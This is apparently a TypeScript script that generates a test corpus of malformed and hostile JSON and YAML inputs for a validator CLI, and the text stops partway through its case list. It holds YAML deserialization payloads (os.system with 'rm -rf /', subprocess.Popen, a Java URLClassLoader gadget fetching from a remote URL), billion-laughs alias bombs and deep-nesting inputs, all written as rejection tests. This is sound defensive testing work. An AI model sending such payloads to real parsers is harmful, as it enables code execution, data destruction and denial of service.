/**
 * The corpus of hostile and broken inputs, with the outcome each must have (test/robustness/corpus.test.ts
 * runs every case through the CLI):
 *   test/fixtures/bad/<group>/<name>   small cases, committed
 *   test/fixtures/bad/manifest.json     every case: file, expected exit code, error code (or "report"), a
 *                                       substring of the message, and the line and column where known
 * Large cases (a 200 MB file, million-entry lists, megabyte texts) and file-system cases (symbolic links,
 * an unreadable file, an empty directory) are never committed: `writeGeneratedCases(dir)` creates them in a
 * temporary directory when the tests run.
 *
 *   npx tsx scripts/make-bad-corpus.ts           rewrite test/fixtures/bad/
 *   npx tsx scripts/make-bad-corpus.ts --check   exit 1 when the committed corpus is out of date
 */
import { chmodSync, closeSync, existsSync, ftruncateSync, mkdirSync, openSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parse as parseYaml } from 'yaml';
import { addLargeSpreadsheetCases, addSpreadsheetCases } from './bad-corpus-spreadsheets.js';

/** What running `check --format json <file> [args]` must give. */
export interface Expected {
  exit: 0 | 1 | 2;
  /** The InputErrorCode, `report` for a normal report, or `usage` for a rejected flag. */
  code: string;
  /** A substring of the stderr line, or for a report of a finding message or normalised unit (`given → unit`). */
  message: string;
  line?: number;
  column?: number;
  /** A spreadsheet place the line names after the file: `Studies!C4` (a cell) or `Studies` (a sheet). */
  place?: string;
  /** An error about the whole file (no line, column or cell), whatever its code. */
  unplaced?: true;
}

export interface ManifestCase {
  /** Relative to the corpus directory (small cases) or to the directory the generated cases are written to. */
  file: string;
  description: string;
  /** Extra command-line arguments. */
  args?: string[];
  /** Created at test time by writeGeneratedCases: too large to commit, not representable in git, or derived from examples/. */
  generated?: 'large' | 'filesystem' | 'example';
  /** Permissions do not stop root: the test skips the case, and says so, when it runs as root. */
  needsNonRoot?: boolean;
  expect: Expected;
}

interface SmallCase extends ManifestCase {
  content: string | Uint8Array;
}

interface GeneratedCase extends ManifestCase {
  /** Creates the input inside `dir`. */
  make(dir: string): void;
}

const root = join(dirname(fileURLToPath(import.meta.url)), '..');
export const CORPUS_DIR = join(root, 'test/fixtures/bad');

// ---------------------------------------------------------------------------------------------------------
// Building blocks

const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);
const bytes = (...parts: Array<number[] | Uint8Array | string>): Uint8Array =>
  new Uint8Array(parts.flatMap((part) => (typeof part === 'string' ? [...utf8(part)] : [...part])));

/** A small valid document: the minimal set is far from complete, so the report fails the threshold (exit 1). */
function fragment(extra: Record<string, unknown> = {}): Record<string, unknown> {
  return { checklistVersion: '1.0', study: { title: 'Hostile input', design: ['in-vivo'] }, ...extra };
}
const json = (value: unknown): string => `${JSON.stringify(value, null, 2)}\n`;
/** A fragment in JSON with `text` spliced in as the storage section's body. */
const jsonStorage = (body: string): string => `{\n  "checklistVersion": "1.0",\n  "study": { "design": ["in-vivo"] },\n  "storage": { ${body} }\n}\n`;
/** A fragment in YAML with `lines` as the storage section. */
const yamlStorage = (lines: string): string => `checklistVersion: "1.0"\nstudy:\n  design: [in-vivo]\nstorage:\n${lines}`;
const temperature = (unit: string): string => json(fragment({ storage: { temperature: { value: -80, unit } } }));

function nested(depth: number, open: string, close: string, inner: string): string {
  return `${open.repeat(depth)}${inner}${close.repeat(depth)}`;
}

const report = (message: string, exit: 0 | 1 = 1): Expected => ({ exit, code: 'report', message });
const error = (code: string, message: string, line?: number, column?: number): Expected => ({
  exit: 2,
  code,
  message,
  ...(line !== undefined ? { line } : {}),
  ...(column !== undefined ? { column } : {}),
});

const completeExample = (): string => readFileSync(join(root, 'examples/complete-in-vivo-ev.yaml'), 'utf8');

// ---------------------------------------------------------------------------------------------------------
// Small cases, committed

function smallCases(): SmallCase[] {
  const cases: SmallCase[] = [];
  const add = (file: string, description: string, content: string | Uint8Array, expect: Expected, args?: string[]): void => {
    cases.push({ file, description, content, expect, ...(args ? { args } : {}) });
  };

  // Malformed JSON
  add('json/truncated-object.json', 'ends inside an object', '{\n  "checklistVersion": "1.0",\n  "study": {\n', error('json-syntax', 'invalid JSON', 4, 1));
  add('json/truncated-string.json', 'ends inside a string', '{"checklistVersion": "1.', error('json-syntax', 'unterminated string'));
  add('json/truncated-number.json', 'ends inside a number', '{"storage": {"temperature": {"value": -', error('json-syntax', 'invalid JSON'));
  add('json/truncated-after-key.json', 'ends after a key', '{"checklistVersion"', error('json-syntax', 'a colon was expected'));
  add('json/truncated-array.json', 'ends inside a list', '{"study": {"design": ["in-vivo",', error('json-syntax', 'invalid JSON'));
  add('json/trailing-comma-object.json', 'a comma after the last member', '{\n  "checklistVersion": "1.0",\n}\n', error('json-syntax', 'a trailing comma after the last entry of an object', 2, 28));
  add('json/trailing-comma-array.json', 'a comma after the last entry', '{"study": {"design": ["in-vivo",]}}', error('json-syntax', 'a trailing comma after the last entry of a list', 1, 32));
  add('json/single-quotes.json', "strings in single quotes", "{'checklistVersion': '1.0'}", error('json-syntax', 'invalid JSON', 1, 2));
  add('json/unquoted-keys.json', 'keys without quotes', '{checklistVersion: "1.0"}', error('json-syntax', 'invalid JSON', 1, 2));
  add('json/line-comment.json', 'a // comment', '{\n  // the version\n  "checklistVersion": "1.0"\n}', error('json-syntax', 'comments are not allowed', 2, 3));
  add('json/block-comment.json', 'a /* */ comment', '{ /* version */ "checklistVersion": "1.0" }', error('json-syntax', 'comments are not allowed', 1, 3));
  add('json/raw-tab-in-string.json', 'a raw tab inside a string', '{"checklistVersion": "1.\t0"}', error('json-syntax', 'control characters must be escaped'));
  add('json/raw-newline-in-string.json', 'a raw line break inside a string', '{"checklistVersion": "1.\n0"}', error('json-syntax', 'invalid JSON'));
  add('json/raw-control-char.json', 'a raw U+0001 inside a string', '{"checklistVersion": "1.\u00010"}', error('json-syntax', 'control characters must be escaped'));
  add('json/tabs-as-whitespace.json', 'tabs between tokens (allowed in JSON)', '{\n\t"checklistVersion":\t"1.0",\n\t"study": {\t"design": ["in-vivo"] }\n}\n', report('not reported'));
  add('json/duplicate-key-top.json', 'the same key twice at the top', '{\n  "checklistVersion": "1.0",\n  "checklistVersion": "1.0"\n}', error('duplicate-key', 'appears twice', 3, 3));
  add('json/duplicate-key-nested.json', 'the same key twice in a section', '{"storage": {"form": {"value": "frozen"}, "form": {"value": "fresh"}}}', error('duplicate-key', '"form" appears twice', 1, 43));
  add('json/duplicate-key-escaped.json', 'the same key, once written with a \\u escape', '{"storage": {"form": 1, "\\u0066orm": 2}}', error('duplicate-key', '"form" appears twice'));
  add('json/duplicate-proto-key.json', '__proto__ twice', '{"__proto__": {}, "__proto__": {}}', error('duplicate-key', '"__proto__" appears twice'));
  add('json/nan-literal.json', 'NaN is not JSON', '{"storage": {"temperature": {"value": NaN, "unit": "°C"}}}', error('json-syntax', 'unexpected character', 1, 39));
  add('json/infinity-literal.json', 'Infinity is not JSON', '{"storage": {"temperature": {"value": Infinity, "unit": "°C"}}}', error('json-syntax', 'invalid JSON'));
  add('json/minus-infinity-literal.json', '-Infinity is not JSON', '{"a": -Infinity}', error('json-syntax', 'invalid JSON'));
  add('json/hex-number.json', 'hexadecimal numbers are not JSON', '{"a": 0x10}', error('json-syntax', 'invalid JSON'));
  add('json/leading-zeros.json', 'a number with a leading zero', '{"a": 007}', error('json-syntax', 'invalid JSON'));
  add('json/plus-sign.json', 'a number with a plus sign', '{"a": +1}', error('json-syntax', 'invalid JSON'));
  add('json/bare-fraction.json', 'a number without a leading digit', '{"a": .5}', error('json-syntax', 'invalid JSON'));
  add('json/invalid-escape.json', 'an escape JSON does not have', '{"a": "\\x41"}', error('json-syntax', 'invalid escape character'));
  add('json/invalid-unicode-escape.json', 'a \\u escape with a non-hex digit', '{"a": "\\u12G4"}', error('json-syntax', 'invalid \\u escape'));
  add('json/two-documents.json', 'two objects in one file', '{"checklistVersion": "1.0"}\n{"checklistVersion": "1.0"}\n', error('json-syntax', 'the file should end here', 2, 1));
  add('json/ndjson-without-flag.ndjson', 'an NDJSON file checked without --ndjson-input', '{"checklistVersion": "1.0"}\n{"checklistVersion": "1.0"}\n', error('json-syntax', 'check it with --ndjson-input', 2, 1));
  add('json/garbage-after.json', 'text after the document', '{"checklistVersion": "1.0"} trailing', error('json-syntax', 'invalid JSON', 1, 29));
  add('json/mismatched-brackets.json', 'a list closed with a brace', '{"study": {"design": ["in-vivo"}}', error('json-syntax', 'invalid JSON'));
  add('json/unclosed-deep.json', 'many lists opened, none closed', '['.repeat(50), error('json-syntax', 'invalid JSON'));
  add('json/javascript-object.json', 'a JavaScript object literal, not JSON', 'module.exports = { checklistVersion: "1.0" }', error('json-syntax', 'invalid JSON', 1, 1));
  add('json/lone-surrogate.json', 'an escaped lone surrogate in a value', json(fragment({ storage: { form: { value: 'frozen', where: 'x' } } })).replace('"x"', '"\\ud800"'), report('not reported'));
  add('json/escaped-nul.json', 'an escaped NUL inside a value is just data', json(fragment()).replace('Hostile input', 'Hostile\\u0000input'), report('not reported'));
  add('json/crlf.json', 'Windows line endings', json(fragment()).replaceAll('\n', '\r\n'), report('not reported'));
  add('json/cr-only.json', 'classic Mac line endings', json(fragment()).replaceAll('\n', '\r'), report('not reported'));
  add('json/no-extension', 'JSON in a file without an extension (detected from the content)', json(fragment()), report('not reported'));
  add('json/yaml-in-json-file.json', 'YAML in a .json file', 'checklistVersion: "1.0"\n', error('json-syntax', 'invalid JSON', 1, 1));

  // Empty, whitespace, byte-order marks, encodings, NUL bytes, binary files
  add('encoding/empty.json', 'zero bytes', '', error('empty', 'the file is empty'));
  add('encoding/empty.yaml', 'zero bytes', '', error('empty', 'the file is empty'));
  add('encoding/whitespace.json', 'only spaces and line breaks', '  \n\t\n  ', error('empty', 'the file is empty'));
  add('encoding/bom-only.yaml', 'only a byte-order mark', bytes([0xef, 0xbb, 0xbf]), error('empty', 'the file is empty'));
  add('encoding/bom.json', 'a UTF-8 byte-order mark before JSON', bytes([0xef, 0xbb, 0xbf], json(fragment())), report('not reported'));
  add('encoding/bom.yaml', 'a UTF-8 byte-order mark before YAML', bytes([0xef, 0xbb, 0xbf], 'checklistVersion: "1.0"\nstudy:\n  design: [in-vivo]\n'), report('not reported'));
  add('encoding/double-bom.json', 'two byte-order marks (decoding drops one, parsing the other)', bytes([0xef, 0xbb, 0xbf, 0xef, 0xbb, 0xbf], json(fragment())), report('not reported'));
  const utf16 = (text: string, bigEndian: boolean, bom: boolean): Uint8Array => {
    const out: number[] = bom ? (bigEndian ? [0xfe, 0xff] : [0xff, 0xfe]) : [];
    for (const unit of Array.from(text, (char) => char.charCodeAt(0))) out.push(...(bigEndian ? [unit >> 8, unit & 0xff] : [unit & 0xff, unit >> 8]));
    return new Uint8Array(out);
  };
  add('encoding/utf16le-bom.json', 'UTF-16 little-endian with a byte-order mark', utf16(json(fragment()), false, true), error('binary', 'UTF-16'));
  add('encoding/utf16be-bom.yaml', 'UTF-16 big-endian with a byte-order mark', utf16('checklistVersion: "1.0"\n', true, true), error('binary', 'UTF-16'));
  add('encoding/utf16le-no-bom.json', 'UTF-16 without a byte-order mark (NUL bytes)', utf16(json(fragment()), false, false), error('binary', 'NUL bytes'));
  add('encoding/utf32le-bom.json', 'UTF-32 with a byte-order mark', bytes([0xff, 0xfe, 0x00, 0x00, 0x7b, 0, 0, 0, 0x7d, 0, 0, 0]), error('binary', 'UTF-16'));
  add('encoding/invalid-utf8.yaml', 'a byte that is never UTF-8', bytes('checklistVersion: "1.0"\nstudy:\n  title: caf', [0xff], '\n'), error('binary', 'not valid UTF-8'));
  add('encoding/latin1-degree.json', 'a Latin-1 degree sign in an otherwise UTF-8 file', bytes('{"storage": {"temperature": {"value": -80, "unit": "', [0xb0], 'C"}}}'), error('binary', 'not valid UTF-8'));
  add('encoding/latin1-micro.yaml', 'a Latin-1 micro sign', bytes('storage:\n  volume: { value: 10, unit: ', [0xb5], 'L }\n'), error('binary', 'not valid UTF-8'));
  add('encoding/windows-1252-quotes.yaml', 'Windows-1252 curly quotes', bytes('study:\n  title: ', [0x93], 'Secretome', [0x94], '\n'), error('binary', 'not valid UTF-8'));
  add('encoding/overlong-utf8.json', 'an overlong UTF-8 encoding of "/"', bytes('{"a": "', [0xc0, 0xaf], '"}'), error('binary', 'not valid UTF-8'));
  add('encoding/utf8-surrogate.json', 'a UTF-8 encoded surrogate (CESU-8)', bytes('{"a": "', [0xed, 0xa0, 0x80], '"}'), error('binary', 'not valid UTF-8'));
  add('encoding/truncated-utf8.json', 'a multi-byte character cut off at the end', bytes('{"a": "', [0xe2, 0x82]), error('binary', 'not valid UTF-8'));
  add('encoding/nul-in-json.json', 'a NUL byte between tokens', bytes('{"checklistVersion": "1.0",', [0], '"study": {}}'), error('binary', 'NUL bytes'));
  add('encoding/nul-in-yaml.yaml', 'a NUL byte inside a value', bytes('checklistVersion: "1.0"\nstudy:\n  title: a', [0], 'b\n'), error('binary', 'NUL bytes'));
  add('encoding/png.json', 'a PNG image renamed to .json', bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52]), error('binary', 'not valid UTF-8'));
  add('encoding/gzip.yaml', 'a gzip file renamed to .yaml', bytes([0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x03]), error('binary', 'not valid UTF-8'));
  add('encoding/pdf.yaml', 'the start of a PDF', bytes('%PDF-1.7\n', [0xe2, 0xe3, 0xcf, 0xd3], '\n'), error('binary', 'not valid UTF-8'));
  add('encoding/zip.json', 'a zip archive (e.g. a .docx) renamed to .json', bytes([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00]), error('binary', 'NUL bytes'));
  add('encoding/elf.yaml', 'an executable renamed to .yaml', bytes([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), error('binary', 'NUL bytes'));
  let seed = 12345;
  const random = Array.from({ length: 512 }, () => ((seed = (seed * 1103515245 + 12345) & 0x7fffffff) >> 16) & 0xff);
  add('encoding/random-bytes.json', 'random bytes', bytes(random), error('binary', 'not valid UTF-8'));
  add('encoding/random-high-bytes.yaml', 'random bytes without NUL', bytes(random.map((byte) => byte | 0x80)), error('binary', 'not valid UTF-8'));

  // Wrong top-level types
  add('top-level/array.json', 'a list', '[{"checklistVersion": "1.0"}]', error('not-a-document', 'holds a list', 1, 1));
  add('top-level/empty-array.json', 'an empty list', '[]', error('not-a-document', 'holds a list'));
  add('top-level/string.json', 'a string', '"checklistVersion"', error('not-a-document', 'holds a string'));
  add('top-level/number.json', 'a number', '42', error('not-a-document', 'holds a number'));
  add('top-level/huge-number.json', 'a number too large for a double', '1e400', error('number-out-of-range', 'too large for a JSON number', 1, 1));
  add('top-level/null.json', 'null', 'null', error('not-a-document', 'holds null'));
  add('top-level/true.json', 'true', 'true', error('not-a-document', 'holds a boolean'));
  add('top-level/sequence.yaml', 'a YAML sequence', '- checklistVersion: "1.0"\n', error('not-a-document', 'holds a list'));
  add('top-level/scalar.yaml', 'a YAML scalar', 'just some text\n', error('not-a-document', 'holds a string'));
  add('top-level/number.yaml', 'a YAML number', '3.14\n', error('not-a-document', 'holds a number'));
  add('top-level/tilde.yaml', 'a YAML null', '~\n', error('not-a-document', 'holds null'));
  add('top-level/document-marker.yaml', 'only a document marker', '---\n', error('not-a-document', 'holds null'));
  add('top-level/comments-only.yaml', 'only comments', '# a study report\n# to be written\n', error('not-a-document', 'holds null'));
  add('top-level/empty-flow-map.yaml', 'an empty mapping', '{}\n', report('not reported'));

  // Malformed YAML
  add('yaml/truncated-flow.yaml', 'ends inside a flow list', 'study:\n  design: [in-vivo\n', error('yaml-syntax', 'invalid YAML', 3));
  add('yaml/unclosed-double-quote.yaml', 'an unclosed double quote', 'study:\n  title: "never closed\n', error('yaml-syntax', 'invalid YAML'));
  add('yaml/unclosed-single-quote.yaml', 'an unclosed single quote', "study:\n  title: 'never closed\n", error('yaml-syntax', 'invalid YAML'));
  add('yaml/bad-indentation.yaml', 'inconsistent indentation', 'study:\n    title: a\n  design: [in-vivo]\n', error('yaml-syntax', 'invalid YAML', 3));
  add('yaml/tab-indentation.yaml', 'a tab used for indentation', 'study:\n\ttitle: a\n', error('yaml-syntax', 'tabs are used for indentation', 2, 1));
  add('yaml/tab-after-colon.yaml', 'a tab between key and value (allowed)', 'checklistVersion:\t"1.0"\nstudy:\n  design: [in-vivo]\n', report('not reported'));
  add('yaml/duplicate-key.yaml', 'the same key twice', 'checklistVersion: "1.0"\ncheckListVersion: "1.0"\nstudy: {}\nstudy: {}\n', error('duplicate-key', 'the key "study" appears twice', 4, 1));
  add('yaml/duplicate-key-flow.yaml', 'the same key twice in a flow mapping', 'storage: { form: { value: frozen }, form: { value: fresh } }\n', error('duplicate-key', '"form" appears twice', 1, 37));
  add('yaml/duplicate-key-number-string.yaml', '1 and "1" become the same property', 'a:\n  1: x\n  "1": y\n', error('duplicate-key', '"1" appears twice', 3, 3));
  add('yaml/duplicate-key-null.yaml', '~ and "" become the same property', '~: 1\n"": 2\n', error('duplicate-key', 'appears twice', 2, 1));
  add('yaml/duplicate-key-alias.yaml', 'an alias used as a key that repeats another key', '&k form: 1\n*k : 2\n', error('duplicate-key', '"form" appears twice', 2, 1));
  add('yaml/two-documents.yaml', 'two documents in one file', 'checklistVersion: "1.0"\n---\nchecklistVersion: "1.0"\n', error('yaml-syntax', 'more than one YAML document', 2, 1));
  add('yaml/text-after-end.yaml', 'text after the document-end marker', 'checklistVersion: "1.0"\n...\nstudy: {}\n', error('yaml-syntax', 'more than one YAML document', 3, 1));
  add('yaml/invalid-escape.yaml', 'an escape YAML does not have', 'study:\n  title: "bad \\q escape"\n', error('yaml-syntax', 'invalid YAML', 2));
  add('yaml/undefined-alias.yaml', 'an alias without an anchor', 'study:\n  title: *nothing\n', error('yaml-syntax', 'an alias refers to an anchor that does not exist (*nothing', 2, 10));
  add('yaml/alias-before-anchor.yaml', 'an alias before its anchor', 'a: *b\nb: &b 1\n', error('yaml-syntax', 'an anchor must come before its aliases', 1, 4));
  add('yaml/undefined-alias-key.yaml', 'an alias key without an anchor', '*x : 1\n', error('yaml-syntax', 'does not exist (*x', 1, 1));
  add('yaml-attacks/many-aliases.yaml', '101 aliases (resolving each scans the document)', `a: &a x\nb: [${Array(101).fill('*a').join(', ')}]\n`, error('yaml-syntax', 'more than 100 aliases', 2, 405));
  add('yaml-attacks/many-anchors-and-aliases.yaml', '2000 anchors, each used once', `${Array.from({ length: 2000 }, (_, index) => `a${index}: &a${index} x`).join('\n')}\n${Array.from({ length: 2000 }, (_, index) => `b${index}: *a${index}`).join('\n')}\n`, error('yaml-syntax', 'more than 100 aliases', 2101, 7));
  add('yaml/reserved-indicator.yaml', 'a value starting with @', 'study:\n  title: @home\n', error('yaml-syntax', 'reserved character', 2, 10));
  add('yaml/json-in-yaml-file.yaml', 'JSON in a .yaml file (YAML is a superset)', json(fragment()), report('not reported'));
  add('yaml/crlf.yaml', 'Windows line endings', 'checklistVersion: "1.0"\r\nstudy:\r\n  design: [in-vivo]\r\n', report('not reported'));
  add('yaml/yaml-1.1-booleans.yaml', 'yes/no/on/off are text in YAML 1.2', 'checklistVersion: "1.0"\nproduction:\n  priming: { applied: yes }\n', report('Expected true or false, found text ("yes")'));
  add('yaml/yaml-1.1-directive.yaml', 'a %YAML 1.1 directive does not bring back 1.1 types', '%YAML 1.1\n---\nchecklistVersion: "1.0"\nstudy:\n  design: [in-vivo]\n  title: 2001-01-01\n', report('not reported'));
  add('yaml/sexagesimal.yaml', 'a YAML 1.1 base-60 number is text in 1.2', yamlStorage('  temperature: { value: 1:20, unit: °C }\n'), report('Expected a number, found text ("1:20")'));
  add('yaml/octal.yaml', 'an octal number', yamlStorage('  form: { value: 0o14 }\n'), report('the number 12 is not accepted here'));
  add('yaml/collection-key.yaml', 'a list used as a key', '? [a, b]\n: 1\n', error('yaml-syntax', 'a key is a list or mapping', 1, 3));
  add('yaml/flow-map-key.yaml', 'a mapping used as a key', '{a: 1}: x\n', error('yaml-syntax', 'a key is a list or mapping', 1, 1));
  add('yaml/alias-collection-key.yaml', 'an alias of a mapping used as a key', 'a: &m {x: 1}\n*m : 2\n', error('yaml-syntax', 'a key is a list or mapping', 2, 1));
  add('yaml/merge-key.yaml', '"<<" is an ordinary key (merge keys are off)', 'checklistVersion: "1.0"\nbase: &b { form: { value: frozen } }\nstorage:\n  <<: *b\n', report('Unknown field "<<"'));
  add('yaml/unused-anchors.yaml', 'anchors on every value, no aliases', '&a checklistVersion: &b "1.0"\nstudy: &c\n  design: &d [&e in-vivo]\n', report('not reported'));

  // YAML attacks: alias expansion, cycles, tags
  const laughs = ['a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]'];
  for (let level = 1; level < 9; level++) {
    const name = String.fromCharCode(97 + level);
    const previous = String.fromCharCode(96 + level);
    laughs.push(`${name}: &${name} [${Array(9).fill(`*${previous}`).join(', ')}]`);
  }
  add('yaml-attacks/billion-laughs.yaml', 'nine levels of nine aliases (10^9 strings when expanded)', `${laughs.join('\n')}\n`, error('yaml-syntax', 'aliases expand to too much data'));
  add('yaml-attacks/billion-laughs-in-study.yaml', 'an alias bomb inside a real section', `checklistVersion: "1.0"\nstudy:\n  design: [in-vivo]\n${laughs.map((line) => `  ${line.replace(/^(\w): /, 'x$1: ')}`).join('\n')}\n`, error('yaml-syntax', 'aliases expand to too much data'));
  add('yaml-attacks/quadratic-aliases.yaml', 'a 1000-entry list referenced 100 times', `a: &a [${Array(1000).fill('x').join(', ')}]\nb: [${Array(100).fill('*a').join(', ')}]\n`, error('yaml-syntax', 'aliases expand to too much data'));
  add('yaml-attacks/self-alias.yaml', 'an alias inside the list it refers to', 'checklistVersion: "1.0"\nstudy: &s\n  design: [in-vivo]\n  self: *s\n', error('yaml-syntax', 'contains it (a cycle)', 4, 9));
  add('yaml-attacks/self-alias-list.yaml', 'a list that contains itself', 'a: &a [*a]\n', error('yaml-syntax', 'contains it (a cycle)'));
  add('yaml-attacks/self-alias-in-unique-list.yaml', 'a cycle where uniqueItems would compare', 'study:\n  design: &d [*d, *d]\n', error('yaml-syntax', 'contains it (a cycle)'));
  add('yaml-attacks/js-function.yaml', '!!js/function', 'checklistVersion: !!js/function "function () { return process.exit(1) }"\n', error('yaml-syntax', 'the tag !!js/function is not supported', 1, 19));
  add('yaml-attacks/js-undefined.yaml', '!!js/undefined', 'study: !!js/undefined\n', error('yaml-syntax', 'the tag !!js/undefined is not supported'));
  add('yaml-attacks/js-regexp.yaml', '!!js/regexp', 'study:\n  title: !!js/regexp /(a+)+$/\n', error('yaml-syntax', 'the tag !!js/regexp is not supported'));
  add('yaml-attacks/python-object.yaml', '!!python/object/apply', 'study: !!python/object/apply:os.system ["rm -rf /"]\n', error('yaml-syntax', 'the tag !!python/object/apply:os.system is not supported'));
  add('yaml-attacks/python-name.yaml', '!!python/name', 'study: !!python/name:subprocess.Popen\n', error('yaml-syntax', 'not supported'));
  add('yaml-attacks/ruby-object.yaml', '!ruby/object', 'study: !ruby/object:Gem::Installer\n  i: x\n', error('yaml-syntax', 'the tag !ruby/object:Gem::Installer is not supported'));
  add('yaml-attacks/java-class.yaml', '!!javax.script.ScriptEngineManager', 'study: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]\n', error('yaml-syntax', 'not supported'));
  add('yaml-attacks/local-tag.yaml', 'a local tag', 'study: !custom { title: x }\n', error('yaml-syntax', 'the tag !custom is not supported'));
  add('yaml-attacks/verbatim-tag.yaml', 'a verbatim tag', 'study: !<tag:yaml.org,2002:js/function> x\n', error('yaml-syntax', 'not supported'));
  add('yaml-attacks/tag-directive.yaml', 'a %TAG directive with a custom prefix', '%TAG !e! tag:example.com,2000:app/\n---\nstudy: !e!payload x\n', error('yaml-syntax', 'tag:example.com,2000:app/payload is not supported'));
  add('yaml-attacks/binary.yaml', '!!binary would give bytes', 'study:\n  title: !!binary aGVsbG8=\n', error('yaml-syntax', 'the tag !!binary is not supported', 2, 10));
  add('yaml-attacks/set.yaml', '!!set would give a Set', 'study: !!set { a, b }\n', error('yaml-syntax', 'the tag !!set is not supported'));
  add('yaml-attacks/omap.yaml', '!!omap would give a Map', 'study: !!omap [ a: 1 ]\n', error('yaml-syntax', 'the tag !!omap is not supported'));
  add('yaml-attacks/pairs.yaml', '!!pairs', 'study: !!pairs [ a: 1 ]\n', error('yaml-syntax', 'the tag !!pairs is not supported'));
  add('yaml-attacks/timestamp.yaml', '!!timestamp would give a Date', 'study:\n  title: !!timestamp 2001-12-14t21:59:43.10-05:00\n', error('yaml-syntax', 'the tag !!timestamp is not supported'));
  add('yaml-attacks/float-tag-on-text.yaml', '!!float on text', 'storage:\n  temperature: { value: !!float minus eighty, unit: °C }\n', error('yaml-syntax', 'the tag !!float is not supported'));
  add('yaml-attacks/str-tag.yaml', '!!str is a core tag (allowed)', yamlStorage('  temperature: { value: !!str -80, unit: °C }\n'), report('Expected a number, found text ("-80")'));
  add('yaml-attacks/deep-block.yaml', '100 levels of block mappings', `${Array.from({ length: 100 }, (_, level) => `${' '.repeat(level)}k:`).join('\n')} 1\n`, error('too-deep', 'more than 64 levels deep', 65, 65));
  add('yaml-attacks/deep-flow.yaml', '10 000 nested flow lists', `study: ${nested(10_000, '[', ']', '1')}\n`, error('too-deep', 'more than 64 levels deep', 1, 71));
  add('yaml-attacks/deep-flow-unclosed.yaml', '10 000 flow lists opened, none closed', `study: ${'['.repeat(10_000)}\n`, error('too-deep', 'more than 64 levels deep'));
  add('yaml-attacks/deep-sequence.yaml', '100 levels of "- - -"', `${Array.from({ length: 100 }, (_, level) => `${' '.repeat(level * 2)}-`).join('\n')} x\n`, error('too-deep', 'more than 64 levels deep'));
  add('yaml-attacks/deep-alias-chain.yaml', 'aliases that nest anchors 40 levels each, 200 levels in all', ['a0: &a0 ' + nested(40, '[', ']', '1'), ...Array.from({ length: 4 }, (_, index) => `a${index + 1}: &a${index + 1} ${nested(40, '[', ']', `*a${index}`)}`)].join('\n') + '\n', error('too-deep', 'more than 64 levels deep'));

  // Nesting, lengths and numbers of values in JSON
  add('limits/deep-array-10k.json', '10 000 nested lists', nested(10_000, '[', ']', ''), error('too-deep', 'more than 64 levels deep', 1, 65));
  add('limits/deep-object-10k.json', '10 000 nested objects', nested(10_000, '{"a":', '}', '1'), error('too-deep', 'more than 64 levels deep', 1, 321));
  add('limits/deep-in-section-10k.json', '10 000 nested lists inside study.design', `{"study": {"design": ${nested(10_000, '[', ']', '"in-vivo"')}}}`, error('too-deep', 'more than 64 levels deep', 1, 84));
  add('limits/deep-unclosed-100k.json', '100 000 lists opened, none closed', '['.repeat(100_000), error('too-deep', 'more than 64 levels deep', 1, 65));
  add('limits/depth-64.json', 'exactly 64 levels: at the limit, accepted', `{"study": {"design": ["in-vivo"]}, "x": ${nested(63, '[', ']', '1')}}`, report('Unknown field "x"'));
  add('limits/depth-65.json', '65 levels: one over the limit', `{"study": {"design": ["in-vivo"]}, "x": ${nested(64, '[', ']', '1')}}`, error('too-deep', 'more than 64 levels deep', 1, 104));
  add('limits/depth-flag.json', '--max-depth 2 refuses a third level', json(fragment()), error('too-deep', 'more than 2 levels deep', 5, 15), ['--max-depth', '2']);
  add('limits/depth-flag.yaml', '--max-depth 2 in YAML', 'checklistVersion: "1.0"\nstudy:\n  design: [in-vivo]\n', error('too-deep', 'more than 2 levels deep', 3, 11), ['--max-depth', '2']);
  add('limits/array-1000.json', 'a list of exactly 1000 entries: accepted', `{"checklistVersion": "1.0", "x": [${Array(1000).fill(0).join(',')}]}\n`, report('Unknown field "x"'));
  add('limits/array-1001.json', 'a list of 1001 entries', `{"x": [${Array(1001).fill(0).join(',')}]}`, error('too-many-items', 'a list has more than 1000 entries', 1, 2008));
  add('limits/array-1001.yaml', 'a block sequence of 1001 entries', `x:\n${Array(1001).fill('  - 0').join('\n')}\n`, error('too-many-items', 'a list has more than 1000 entries', 1002, 3));
  add('limits/array-1001-flow.yaml', 'a flow sequence of 1001 entries', `x: [${Array(1001).fill(0).join(', ')}]\n`, error('too-many-items', 'a list has more than 1000 entries'));
  add('limits/array-flag.json', '--max-array-length 1', json(fragment({ study: { design: ['in-vivo', 'in-vitro'] } })), error('too-many-items', 'more than 1 entries'), ['--max-array-length', '1']);
  add('limits/string-at-limit.yaml', '--max-string-length 24 accepts a text of exactly 24 characters', 'checklistVersion: "1.0"\nstudy:\n  title: A title longer than five\n', report('not reported'), ['--max-string-length', '24']);
  add('limits/string-flag.yaml', '--max-string-length 5', 'study:\n  title: A title longer than five\n', error('too-long', 'a text is written over 24 characters, more than twice the limit of 5', 2, 10), ['--max-string-length', '5']);
  add('limits/string-flag-quoted.yaml', '--max-string-length 10: a quoted text within twice the limit is measured decoded', 'study:\n  title: "Secretome of MSC"\n', error('too-long', 'a text is 16 characters long', 2, 10), ['--max-string-length', '10']);
  add('limits/string-flag-quoted-long.yaml', '--max-string-length 10: a quoted text over twice the limit is refused as written', 'study:\n  title: "Secretome of MSC cultures"\n', error('too-long', 'a text is written over 27 characters', 2, 10), ['--max-string-length', '10']);
  add('limits/key-flag.json', '--max-string-length 5 applies to keys too', '{"checklistVersion": "1.0"}', error('too-long', 'a key is 16 characters long', 1, 22), ['--max-string-length', '5']);
  add('limits/values-flag.json', '--max-values 3', json(fragment()), error('too-many-values', 'more than 3 values'), ['--max-values', '3']);
  add('limits/values-flag.yaml', '--max-values 3 in YAML', 'checklistVersion: "1.0"\nstudy:\n  design: [in-vivo]\n  title: x\n', error('too-many-values', 'more than 3 values'), ['--max-values', '3']);
